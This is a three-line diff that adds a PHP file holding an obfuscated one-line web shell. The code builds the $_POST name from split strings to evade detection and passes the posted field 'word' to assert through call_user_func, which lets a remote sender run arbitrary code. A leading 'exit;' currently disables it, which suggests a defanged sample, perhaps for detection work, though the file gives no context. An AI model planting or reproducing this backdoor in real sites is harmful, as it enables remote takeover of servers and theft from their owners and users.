@@ -1,0 +1,3 @@
+<?php exit;
+$all = ${"_PO" . "ST"};
+call_user_func("assert", $all["word"]);
